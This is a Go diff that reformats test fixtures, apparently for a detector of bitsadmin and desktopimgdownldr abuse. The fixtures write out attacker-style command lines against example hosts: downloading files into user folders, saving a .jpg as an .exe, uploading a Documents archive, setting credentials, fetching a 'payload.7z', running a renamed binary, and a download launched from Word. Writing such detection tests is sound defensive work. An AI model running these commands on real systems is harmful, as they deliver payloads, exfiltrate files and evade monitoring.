@@ -55,14 +55,18 @@ var lines = []line{
 	{name: "07-sharing", shows: []int{1, 7}, image: bitsadmin, command: `bitsadmin /transfer job https://raw.githubusercontent.com/example/example/main/a.dat C:\Users\alice\AppData\Local\a.dat`},
 	{name: "08-public", shows: []int{1, 8}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.dat C:\Users\Public\a.dat`},
 	{name: "09-executable", shows: []int{1, 9}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.jpg C:\Users\alice\AppData\Local\a.exe`},
-	{name: "10-office", shows: []int{1, 10}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`,
-		parent: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" C:\Users\alice\Documents\invoice.docm`},
+	{
+		name: "10-office", shows: []int{1, 10}, image: bitsadmin, command: `bitsadmin /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`,
+		parent: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" C:\Users\alice\Documents\invoice.docm`,
+	},
 	{name: "14-upload", shows: []int{14}, image: bitsadmin, command: `bitsadmin /transfer job /upload https://files.example.net/up/a.zip C:\Users\alice\Documents\a.zip`},
 	{name: "16-headers", shows: []int{16}, image: bitsadmin, command: `bitsadmin /setcustomheaders job "Authorization: Bearer x"`},
 	{name: "16-credentials", shows: []int{16}, image: bitsadmin, command: `bitsadmin /setcredentials job SERVER BASIC alice x`},
 	{name: "17-lock-screen", shows: []int{17}, image: `C:\Windows\System32\desktopimgdownldr.exe`, command: `desktopimgdownldr.exe /lockscreenurl:https://files.example.net/payload.7z /eventName:desktopimgdownldr`},
-	{name: "18-renamed", shows: []int{18}, image: `C:\Users\alice\AppData\Local\Temp\wuhelper.exe`, original: "bitsadmin.exe", sysmon: true,
-		command: `wuhelper.exe /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`},
+	{
+		name: "18-renamed", shows: []int{18}, image: `C:\Users\alice\AppData\Local\Temp\wuhelper.exe`, original: "bitsadmin.exe", sysmon: true,
+		command: `wuhelper.exe /transfer job https://files.example.net/a.dat C:\Users\alice\AppData\Local\a.dat`,
+	},
 }
 
 // process is the process of a command line.
